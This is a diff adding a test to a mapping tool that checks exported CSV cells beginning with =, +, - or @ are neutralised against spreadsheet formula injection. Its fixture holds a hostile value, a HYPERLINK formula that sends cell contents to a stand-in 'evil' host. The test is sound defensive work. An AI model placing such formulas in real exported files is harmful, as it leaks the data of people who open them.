@@ -162,3 +162,24 @@ def test_types_option_counts_and_draws_only_those_types(tmp_path):
     assert summary["services_non_comptes"] == sum(s["ips_explicit"] != "yes" for s in sources)
     html = result.outputs["map"].read_text(encoding="utf-8")
     assert "Services comptés : IPS\n" in html or "Services comptés : IPS " in html
+
+
+def test_listing_text_cannot_become_a_spreadsheet_formula(tmp_path):
+    listing = write_listing(
+        tmp_path / "liste.csv",
+        "nom;structure;code_commune;statut;longitude;latitude\n"
+        '=HYPERLINK("http://evil"&A1,"x");+1;69123;actif;;\n'
+        "@SUM(1);-2+3;35238;actif;-1.68;48.11\n"
+        "=1+2;x;@99;actif;;\n",
+    )
+    result = build(BuildSettings(services=listing, out=tmp_path / "out", build_date="2026-01-01"))
+    services = read_csv(result.outputs["services"])
+    assert [(s["nom"], s["structure"]) for s in services] == [
+        ('\'=HYPERLINK("http://evil"&A1,"x")', "'+1"),
+        ("'@SUM(1)", "'-2+3"),
+    ]
+    assert services[1]["longitude"] == "-1.68" and services[1]["longitude_placee"] == "-1.68"
+    rejects = read_csv(result.outputs["rejects"])
+    assert [(r["nom"], r["valeur"]) for r in rejects] == [("'=1+2", "'=1+2")]
+    text = result.outputs["services"].read_text(encoding="utf-8-sig")
+    assert "\n=" not in text and ",=" not in text and ',"=' not in text
